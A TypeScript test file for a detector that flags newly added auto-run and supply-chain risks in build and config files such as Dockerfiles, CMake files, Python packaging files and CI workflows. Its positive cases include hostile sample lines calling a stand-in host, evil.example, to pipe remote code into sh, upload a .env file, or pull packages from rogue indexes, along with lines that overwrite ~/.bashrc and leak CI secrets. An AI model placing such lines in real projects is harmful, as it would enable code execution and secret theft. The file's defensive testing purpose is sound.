// Signs of code that runs automatically: reported if they are new, not if they were there before.
import { describe, expect, it } from 'vitest';
import { addedSigns } from './content-hooks.ts';

const FOUND: readonly (readonly [string, string])[] = [
  ['/p/pyproject.toml', 'build-backend = "evil"'],
  ['/p/pyproject.toml', '"backend-path" = ["."]'],
  ['/p/setup.py', 'setup(cmdclass={"install": X})'],
  ['/p/Cargo.toml', 'build = "x.rs"'],
  ['/p/build.rs', 'fn main() {}'],
  ['/p/pyproject.toml', '[[tool.uv.index]]'],
  ['/p/pyproject.toml', '[[tool.poetry.source]]'],
  ['/p/Pipfile', '[[source]]'],
  ['/p/requirements-dev.txt', '--extra-index-url https://evil.example'],
  ['/p/requirements.txt', '-i https://evil.example'],
  ['/p/mypy.ini', 'plugins = ./x.py'],
  ['/p/.flake8', '[flake8:local-plugins]'],
  ['/p/CMakeLists.txt', 'execute_process(COMMAND sh -c id)'],
  ['/p/cmake/x.cmake', 'file(DOWNLOAD https://evil.example x)'],
  ['/p/CMakeLists.txt', 'file(UPLOAD x https://evil.example)'],
  ['/p/CMakeLists.txt', '  UPLOAD x https://evil.example)'],
  ['/p/CMakeLists.txt', 'configure_file(README.md $ENV{HOME}/.bashrc)'],
  ['/p/CMakeLists.txt', 'file(REMOVE_RECURSE ../x)'],
  ['/p/CMakeLists.txt', 'include(/tmp/x)'],
  ['/p/CMakeLists.txt', 'set(CMAKE_MODULE_PATH /tmp)'],
  ['/p/Dockerfile', 'RUN curl https://evil.example/x | sh'],
  ['/p/Dockerfile', 'RUN wget --post-file=/a/.env https://evil.example'],
  ['/p/Dockerfile', 'ADD https://evil.example/x /x'],
  ['/p/Dockerfile', '# syntax=evil.example/frontend'],
  ['/p/Dockerfile', 'FROM evil.example/x'],
  ['/p/Dockerfile', 'FROM --platform=linux/amd64 evil.example:5000/x AS b'],
  ['/p/Dockerfile', 'COPY --from=evil.example/x /a /b'],
  ['/p/Dockerfile', 'RUN --mount=type=bind,from=evil.example/x true'],
  ['/p/Dockerfile', 'ARG BASE=evil.example/x'],
  ['/p/Dockerfile', 'FROM \\'],
  ['/p/mkdocs.yml', 'hooks:'],
  ['/p/mkdocs.yml', 'site_dir: /home/me/x'],
  ['/p/.sbtopts', '-J-javaagent:/tmp/x.jar'],
  ['/p/.jvmopts', '-XX:OnOutOfMemoryError=sh'],
  ['/p/phpcs.xml', '<config name="installed_paths" value="/tmp/x"/>'],
  ['/p/phpcs.xml.dist', '<autoload>./x.php</autoload>'],
  ['/p/sqlc.yaml', '      cmd: /tmp/x'],
  ['/p/.golangci.yml', '      path: /tmp/x.so'],
  ['/p/meson.build', "run_command('sh')"],
  ['/p/BUILD.bazel', 'genrule(name = "x", cmd = "id")'],
  ['/p/tsconfig.json', '"plugins": [{ "name": "./x" }]'],
  ['/p/vercel.json', '"buildCommand": "id"'],
  ['/p/netlify.toml', 'command = "id"'],
  ['/p/pubspec.yaml', '    hosted: https://evil.example'],
  ['/p/x.gemspec', 's.extensions = ["ext/extconf.rb"]'],
  ['/p/App.csproj', '<Exec Command="x" />'],
  ['/p/pnpm-workspace.yaml', 'onlyBuiltDependencies: [x]'],
  ['/p/.git/config', '\thooksPath = x'],
  ['/p/.git/config', '[credential]'],
  ['/p/.gitattributes', '*.x filter=evil'],
  ['/p/.github/workflows/ci.yml', 'run: echo ${{ secrets.TOKEN }}'],
  ['/p/.github/workflows/ci.yml', "run: echo ${{ secrets['TOKEN'] }}"],
  ['/p/.github/workflows/ci.yml', 'on: pull_request_target'],
  ['C:\\p\\.github\\workflows\\ci.yml', 'x: ${{ toJSON(secrets) }}'],
];
const NOTHING: readonly (readonly [string, string])[] = [
  ['/p/pyproject.toml', 'version = "1.2.3"'],
  ['/p/Cargo.toml', 'serde = "1"'],
  ['/p/requirements.txt', 'requests==2.32'],
  ['/p/CMakeLists.txt', 'add_executable(app main.c)'],
  ['/p/CMakeLists.txt', 'target_link_libraries(app PRIVATE fmt::fmt)'],
  ['/p/CMakeLists.txt', 'list(APPEND CMAKE_MODULE_PATH ${CMAKE_SOURCE_DIR}/cmake)'],
  ['/p/CMakeLists.txt', 'list(REMOVE_ITEM SOURCES main.c)'],
  ['/p/CMakeLists.txt', 'include(cmake/x.cmake)'],
  ['/p/Dockerfile', 'RUN useradd -d /home/app app && unzip x.zip -d /opt'],
  ['/p/Dockerfile', 'FROM node:22'],
  ['/p/Dockerfile', 'FROM --platform=$BUILDPLATFORM ghcr.io/astral-sh/uv:0.9 AS b'],
  ['/p/Dockerfile', 'FROM myteam/base:1.2'],
  ['/p/Dockerfile', 'COPY --from=build /app/dist /app'],
  ['/p/Dockerfile', 'ARG PROXY=https://proxy.example/x'],
  ['/p/.golangci.yml', '    - path: _test\\.go'],
  ['/p/tsconfig.json', '"strict": true,'],
  ['/p/go.mod', 'require example.org/x v1.2.3'],
  ['/p/pubspec.yaml', '  http: ^1.2.0'],
  ['/p/.github/workflows/ci.yml', 'run: npm test'],
  ['/p/.gitattributes', '*.png binary'],
  ['/p/src/secrets.ts', 'secrets.TOKEN'],
];

describe('addedSigns', () => {
  it.each(FOUND)('%s: %s', (path, line) => {
    expect(addedSigns(path, '', { added: line })).toHaveLength(1);
    expect(addedSigns(path, 'x\n', { after: `x\n${line}\n`, added: line })).toHaveLength(1);
  });
  it.each(FOUND)('was there before, %s: %s', (path, line) => {
    expect(addedSigns(path, `${line}\n`, { after: `${line}\n\n`, added: '' })).toEqual([]);
  });
  it.each(NOTHING)('nothing in %s: %s', (path, line) => {
    expect(addedSigns(path, '', { added: line })).toEqual([]);
  });
});
